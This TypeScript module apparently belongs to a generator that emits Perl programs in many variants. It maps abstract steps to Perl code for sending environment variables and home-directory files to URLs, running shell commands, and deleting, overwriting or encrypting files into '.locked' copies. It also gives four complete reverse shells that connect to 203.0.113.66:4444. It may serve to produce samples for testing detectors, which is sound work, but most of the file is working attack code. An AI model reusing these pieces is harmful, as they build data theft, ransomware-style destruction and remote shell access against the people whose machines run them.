import { type Dialect, value, wrap } from "./dialect.ts";

const quote = (text: string): string => `'${text.replaceAll("\\", "\\\\").replaceAll("'", "\\'")}'`;
const home = (below: string): string => `"$ENV{HOME}/${below}"`;

export const perl: Dialect = {
  name: "perl",
  file: "scripts/notes.pl",
  run: "perl scripts/notes.pl",
  imports: [
    ["LWP::UserAgent", "use LWP::UserAgent;"],
    ["HTTP::Request", "use HTTP::Request;"],
    ["HTTP::Tiny", "use HTTP::Tiny;"],
    ["getstore", "use LWP::Simple;"],
    ["get(", "use LWP::Simple;"],
    ["Mojo::UserAgent", "use Mojo::UserAgent;"],
    ["encode_json", "use JSON::PP;"],
    ["IO::Socket", "use IO::Socket::INET;"],
    ["IO::Socket::SSL", "use IO::Socket::SSL;"],
    ["decode_base64", "use MIME::Base64;"],
    ["find(", "use File::Find;"],
    ["rmtree", "use File::Path qw(rmtree);"],
    ["uri_escape", "use URI::Escape;"],
    ["Crypt::CBC", "use Crypt::CBC;"],
  ],
  program: ({ definitions, body }, imports) =>
    [
      "#!/usr/bin/env perl",
      "use strict;",
      "use warnings;",
      ...imports,
      "",
      "sub slurp {",
      "  my ($path) = @_;",
      "  open(my $fh, '<', $path) or return '';",
      "  local $/;",
      "  my $content = <$fh>;",
      "  close($fh);",
      "  return $content;",
      "}",
      "",
      ...definitions,
      "",
      ...body,
      "",
    ].join("\n"),
  quote,
  environment: { one: (name) => `$ENV{${name}}`, all: "encode_json(\\%ENV)" },
  contentOf: (below) => `slurp(${home(below)})`,
  home,
  clients: {
    lwp: {
      post: (url, text) => ["my $ua = LWP::UserAgent->new;", `$ua->post(${url}, Content => ${text});`],
      get: (url) => value("$body", "my $ua = LWP::UserAgent->new;", `my $body = $ua->get(${url})->decoded_content;`),
    },
    "lwp-form": {
      post: (url, text) => [`LWP::UserAgent->new(timeout => 10)->post(${url}, { data => ${text} });`],
    },
    "lwp-request": {
      post: (url, text) => [
        `my $request = HTTP::Request->new('POST', ${url});`,
        `$request->content(${text});`,
        "my $ua = LWP::UserAgent->new;",
        "$ua->request($request);",
      ],
    },
    "http-tiny": {
      post: (url, text) => [`HTTP::Tiny->new->post(${url}, { content => ${text} });`],
      get: (url) => value("$body", `my $body = HTTP::Tiny->new->get(${url})->{content};`),
    },
    "http-tiny-form": {
      post: (url, text) => [
        "my $http = HTTP::Tiny->new(timeout => 9);",
        `$http->post_form(${url}, [ data => ${text} ]);`,
      ],
      get: (url) => value("$res->{content}", `my $res = HTTP::Tiny->new->request('GET', ${url});`),
    },
    mojo: {
      post: (url, text) => ["my $ua = Mojo::UserAgent->new;", `$ua->post(${url} => form => { data => ${text} });`],
      get: (url) => value("$body", `my $body = Mojo::UserAgent->new->get(${url})->result->body;`),
    },
    "lwp-simple": {
      post: (url, text) => [`get(${url} . '?d=' . uri_escape(${text}));`],
      get: (url) => value("$body", `my $body = get(${url});`),
    },
    "curl-system": {
      post: (url, text) => [`system('curl', '-s', '--data-binary', ${text}, ${url});`],
      get: (url) => value("$body", `my $url = ${url};`, "my $body = qx(curl -s $url);"),
    },
    "curl-pipe": {
      post: (url, text) => [
        `open(my $pipe, '|-', 'curl', '-s', '-d', '@-', ${url});`,
        `print $pipe ${text};`,
        "close($pipe);",
      ],
    },
  },
  shells: {
    system: { run: (command) => [`system(${command});`] },
    "system-list": { run: (command) => [`system('sh', '-c', ${command});`] },
    qx: {
      run: (c) => [`my $cmd = ${c};`, "qx($cmd);"],
      capture: (c) => value("$seen", `my $cmd = ${c};`, "my $seen = qx($cmd);"),
    },
    backtick: {
      run: (c) => [`my $cmd = ${c};`, "`$cmd`;"],
      capture: (c) => value("$seen", `my $cmd = ${c};`, "my $seen = `$cmd`;"),
    },
    open: {
      run: (command) => [`open(my $out, '-|', ${command});`, "my @lines = <$out>;", "close($out);"],
      capture: (command) => value("$seen", `open(my $out, '-|', ${command});`, "my $seen = join('', <$out>);"),
    },
    exec: { run: (command) => [`exec(${command}) if fork() == 0;`] },
  },
  variable: (name) => `$${name}`,
  set: (name, expression) => `my $${name} = ${expression};`,
  define: (name, parameters, body) =>
    wrap(`sub ${name} {`, [`my (${parameters.map((each) => `$${each}`).join(", ")}) = @_;`, ...body], "}"),
  getter: (name, expression) => ({
    definitions: wrap(`sub ${name} {`, [`return ${expression};`], "}"),
    value: `${name}()`,
  }),
  call: (name, values) => `${name}(${values.join(", ")});`,
  record: (url, text) => ({
    code: { definitions: [], body: [`my $job = { target => ${url}, text => ${text} };`] },
    url: "$job->{target}",
    text: "$job->{text}",
  }),
  loop: (items, body) => wrap(`for my $item (${items.join(", ")}) {`, body("$item"), "}"),
  forever: (body) => wrap("while (1) {", [...body, "sleep 60;"], "}"),
  save: (path, text) => [`open(my $save, '>', ${path});`, `print $save ${text};`, "close($save);"],
  append: (path, text) => [`open(my $log, '>>', ${path});`, `print $log ${text} . "\\n";`, "close($log);"],
  print: (text) => `print ${text}, "\\n";`,
  walk: (folder, body) =>
    wrap(
      "find(sub {",
      ["my $path = $File::Find::name;", "return unless -f $path;", ...body("$path")],
      `}, ${folder});`,
    ),
  remove: (file) => [`unlink(${file});`],
  overwrite: (file) => [`open(my $o, '>', ${file});`, `print $o "\\0" x 4096;`, "close($o);"],
  encrypt: (file) => [
    "my $cipher = Crypt::CBC->new(-key => $ENV{LOCK_KEY}, -cipher => 'Rijndael');",
    `my $locked = $cipher->encrypt(slurp(${file}));`,
    `open(my $o, '>', ${file} . '.locked');`,
    "print $o $locked;",
    "close($o);",
    `unlink(${file});`,
  ],
  removeTree: (folder) => [`rmtree(${folder});`],
  decode: (text) => `decode_base64(${text})`,
  evaluate: (code) => `eval(${code});`,
  oneLiner: (command) => `system(${quote(command)});`,
  shellsBehindSockets: {
    dup: 'use Socket;\nmy ($h, $p) = ("203.0.113.66", 4444);\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));\nif (connect(S, sockaddr_in($p, inet_aton($h)))) {\n  open(STDIN, ">&S");\n  open(STDOUT, ">&S");\n  open(STDERR, ">&S");\n  exec("/bin/sh -i");\n}\n',
    "io-socket":
      'use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => "203.0.113.66:4444", Proto => "tcp");\nwhile (my $line = <$c>) {\n  my $out = qx($line);\n  print $c $out;\n}\n',
    fdopen:
      'use IO::Socket;\nmy $c = IO::Socket::INET->new("203.0.113.66:4444");\nSTDIN->fdopen($c, "r");\n$~->fdopen($c, "w");\nsystem $_ while <>;\n',
    fork: 'use IO::Socket::INET;\nexit if fork;\nmy $s = IO::Socket::INET->new(PeerHost => "203.0.113.66", PeerPort => 4444);\nopen(STDIN, "<&", $s);\nopen(STDOUT, ">&", $s);\nexec "/bin/bash", "-i";\n',
  },
  sockets: {
    print:
      'use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => "127.0.0.1:6379");\nprint $c "PING\\r\\n";\nmy $line = <$c>;\nprint $line;\n',
    loop: 'use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => "localhost:11211");\nprint $c "stats\\r\\n";\nwhile (my $line = <$c>) {\n  print $line;\n  last if $line =~ /^END/;\n}\nprint qx(git log --oneline -5);\n',
  },
};
